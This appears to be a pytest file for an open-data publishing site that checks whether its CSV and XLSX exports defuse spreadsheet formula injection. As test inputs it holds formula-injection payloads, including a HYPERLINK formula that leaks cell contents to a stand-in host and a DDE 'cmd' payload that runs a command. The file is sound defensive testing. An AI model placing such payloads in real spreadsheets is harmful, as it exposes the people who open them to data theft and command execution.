"""Open data that is safe to open: no CSV or XLSX cell a spreadsheet could run as a formula (OWASP CSV injection).

A portal whose source holds formula-like values is pulled and built; the files are read back as bytes,
as XML inside the XLSX and through openpyxl. The writers are also fed values content/ cannot hold
(leading tab or CR, XML-illegal controls) directly.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from xml.etree import ElementTree

import openpyxl
import pytest

from publisher.core.content import PublishedRecord, load_published
from publisher.pull.plan import make_plan, write_plan
from publisher.site.build import build_site
from publisher.site.opendata.national import national_xlsx as xlsx_bytes
from publisher.site.opendata.tables import FORMULA_TRIGGERS, csv_bytes, spreadsheet_text
from tests.conftest import SAMPLE_NOW, make_sample_portal
from tests.factories import penalty, permit

HOSTILE = [
    '=HYPERLINK("http://x/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1 加号开头",
    "-1+1 减号开头",
    "@SUM(A1:A9) 艾特开头",
    "＝1+1 全角等号",
    "＋1 全角加号",
    "－1 全角减号",
    "＠SUM(A1) 全角艾特",
]
# A plain negative number, a formula sign inside text and an error code (a string cell, not an error) stay as they are.
PLAIN = ["-3", "-0.5", "普通文字 =1+1 在中间", "#N/A"]
XLSX_TYPES = ("permits", "penalties")
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_BLANKS = re.compile(r"[\s\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]*")


def triggered(text: str) -> bool:
    """Would a spreadsheet read this text as a formula, were it not neutralised?"""
    if not text or re.fullmatch(r"-[0-9]+(?:\.[0-9]+)?", text):
        return False
    return text[0] in "\t\r" or text[_BLANKS.match(text).end():][:1] in FORMULA_TRIGGERS


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory):
    config = make_sample_portal(tmp_path_factory.mktemp("hostile-opendata"), planted=False)
    rows = {"penalties": [], "permits": []}
    for n, value in enumerate(HOSTILE + PLAIN):
        text = {"facts": value, "content": value, "remarks": value, "basis": value, "violation_type": value}
        rows["penalties"].append(penalty(row=700 + n, **text).values)
        rows["permits"].append(permit(row=700 + n, content=value, remarks=value, certificate_name=value).values)
    for type_key, values in rows.items():
        (config.paths.content.parent / "data" / f"{type_key}-hostile.json").write_text(
            json.dumps(values, ensure_ascii=False), "utf-8")
    write_plan(make_plan(config, SAMPLE_NOW))
    build_site(config, SAMPLE_NOW)
    return config


def files_of(config, type_key: str, kind: str) -> list:
    """The type's whole file of this kind and each year's."""
    folder = config.paths.output / "opendata"
    return [folder / f"{type_key}.{kind}", *sorted(folder.glob(f"{type_key}-[0-9][0-9][0-9][0-9].{kind}"))]


def shown_values(config, type_key: str) -> set[str]:
    """Every text content/ holds for a live record of the type (the values the CSV cells come from)."""
    out = set()
    for record in load_published(config.paths.content)[type_key]:
        if record.live:
            out.update(v if isinstance(v, str) else "；".join(v) for _, v in record.fields)
    return out


def raw_csv_cells(data: bytes) -> list[list[str]]:
    """Each CSV cell as its bytes spell it (quotes and all): a reader of the text, one character at a time."""
    text = data.decode("utf-8-sig")
    rows: list[list[str]] = []
    row: list[str] = []
    start = i = 0
    quoted = False
    while i < len(text):
        ch = text[i]
        if quoted:
            if ch == '"' and text[i + 1:i + 2] == '"':
                i += 1  # a doubled quote inside a quoted cell
            elif ch == '"':
                quoted = False
        elif ch == '"':
            quoted = True
        elif ch == ",":
            row.append(text[start:i])
            start = i + 1
        elif ch == "\r" and text[i + 1:i + 2] == "\n":
            rows.append([*row, text[start:i]])
            row, i = [], i + 1
            start = i + 1
        i += 1
    return rows


def test_the_sample_source_reaches_content_with_formula_like_values(hostile_site):
    for type_key in XLSX_TYPES:
        assert set(HOSTILE + PLAIN) <= shown_values(hostile_site, type_key)


@pytest.mark.parametrize("type_key", ["permits", "penalties", "inspections", "subjects", "officers", "matters",
                                      "guides", "windows"])
def test_every_csv_cell_that_could_be_a_formula_begins_with_a_quote(hostile_site, type_key):
    shown = shown_values(hostile_site, type_key)
    for path in files_of(hostile_site, type_key, "csv"):  # the whole-type file and each year's
        data = path.read_bytes()
        parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        raw = raw_csv_cells(data)
        assert [len(r) for r in raw] == [len(r) for r in parsed]
        for raw_row, row in zip(raw, parsed, strict=True):
            for raw_cell, text in zip(raw_row, row, strict=True):
                if text.startswith("'") and text[1:] in shown and triggered(text[1:]):
                    assert raw_cell.removeprefix('"').startswith("'"), raw_cell
                else:
                    assert not triggered(text), text
    data = (hostile_site.paths.output / "opendata" / f"{type_key}.csv").read_bytes()
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    if type_key in XLSX_TYPES:
        cells = {c for r in parsed for c in r}
        for value in HOSTILE:
            assert "'" + value in cells and value not in cells  # the round trip: the original after the quote
        assert set(PLAIN) <= cells


@pytest.mark.parametrize("type_key", XLSX_TYPES)
def test_no_xlsx_cell_is_a_formula_or_starts_like_one(hostile_site, type_key):
    paths = files_of(hostile_site, type_key, "xlsx")
    assert len(paths) >= 3  # the whole-type file and at least two years'
    seen = [assert_no_formula(path) for path in paths]
    for value in HOSTILE:  # the round trip, in the whole-type file: the original after the quote
        assert "'" + value in seen[0] and value not in seen[0]
    assert set(PLAIN) <= seen[0]
    assert set().union(*seen[1:]) == seen[0]  # every value of the whole file is in a year's file, and no other


def assert_no_formula(path) -> set[str]:
    """Check no cell of the file is or reads as a formula; return the text of its cells."""
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = z.read(name)
            assert b"<f>" not in xml and b"<f " not in xml and b":f>" not in xml
            root = ElementTree.fromstring(xml)
            for c in root.iter(f"{{{SHEET}}}c"):
                assert c.get("t") in ("inlineStr", "s", "n", "d", None), ElementTree.tostring(c)
                assert c.find(f"{{{SHEET}}}f") is None
                text = "".join(t.text or "" for t in c.iter(f"{{{SHEET}}}t"))
                assert not (triggered(text) and not text.startswith("'")), text
    wb = openpyxl.load_workbook(path)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type in ("s", "n", "d") or c.value is None, (c.coordinate, c.data_type, c.value)
                if isinstance(c.value, str):
                    seen.add(c.value)
                    assert not triggered(c.value), c.value
    return seen


@pytest.mark.parametrize("type_key", XLSX_TYPES)
def test_json_open_data_and_twins_keep_the_exact_text(hostile_site, type_key):
    dataset = json.loads((hostile_site.paths.output / "opendata" / f"{type_key}.json").read_text("utf-8"))
    values = {v for r in dataset["records"] for v in r["fields"].values() if isinstance(v, str)}
    assert set(HOSTILE + PLAIN) <= values
    assert not any(v.startswith("'") for v in values)
    for record in dataset["records"]:
        twin = hostile_site.paths.output / record["url"].removeprefix(hostile_site.site.url).lstrip("/") / "index.json"
        assert json.loads(twin.read_text("utf-8"))["fields"] == record["fields"]


def record(**fields: str) -> PublishedRecord:
    return PublishedRecord("penalties", "r1", "t", "2026-11-10", "2026-11-24", "live", tuple(fields.items()))


WRITER_CASES = {
    "\t=1+1": "'\t=1+1",  # content/ never starts a value with a tab or CR (pull strips them): the writer still guards
    "\r=1+1": "'\r=1+1",
    "\ttext": "'\ttext",
    "=1+1": "'=1+1",
    "\u200b=1+1": "'\u200b=1+1",
    "  =1+1": "'  =1+1",  # pull strips leading blanks from a value: here the writer meets them
    "\u3000=1+1": "'\u3000=1+1",
    "\n@x": "'\n@x",
    "-3": "-3",
    "-3e5": "'-3e5",
    "-": "'-",
    "0.5": "0.5",
    "": "",
}


@pytest.mark.parametrize("value,expected", list(WRITER_CASES.items()))
def test_spreadsheet_text_neutralises_by_the_owasp_list(value, expected):
    assert spreadsheet_text(value) == expected


def test_the_writers_neutralise_controls_and_keep_numbers_and_never_crash():
    hostile = record(decision_no="=1+1\x00", facts="\x01\x02=SUM(1)\x1f\ufffe", content="\tx\ry",
                     remarks="#DIV/0!", fine="-3")
    data = csv_bytes("penalties", [hostile], "https://x")
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1]
    assert "'=1+1\x00" in row and "'\x01\x02=SUM(1)\x1f\ufffe" in row and "'\tx\ry" in row and "-3" in row
    unencodable = record(decision_no="x", party_name="\ud800=x")  # a lone surrogate: never in content/, still no crash
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes("penalties", [hostile, unencodable], "机关", "2026-11-24")))
    cells = {c.value: c.data_type for r in wb.active.iter_rows(min_row=2) for c in r if c.value is not None}
    assert cells["'=1+1"] == cells["'=SUM(1)"] == cells["#DIV/0!"] == cells["-3"] == cells["'=x"] == "s"
    assert "'\tx\ny" in cells or "'\tx\ry" in cells  # XML reads a CR back as a line feed


def test_a_value_of_the_maximum_length_with_a_trigger_is_still_one_string_cell():
    long = "=" + "长" * 40000
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes("penalties", [record(facts=long)], "机关", "")))
    [c] = [c for r in wb.active.iter_rows(min_row=2) for c in r if c.value and c.value.startswith("'=")]
    assert c.data_type == "s" and len(c.value) <= 32767


def test_the_catalogue_page_tells_data_users_about_the_quote(hostile_site):
    page = (hostile_site.paths.output / "opendata" / "index.html").read_text("utf-8")
    assert "加一个英文单引号 '" in page and "JSON 文件保持原文" in page
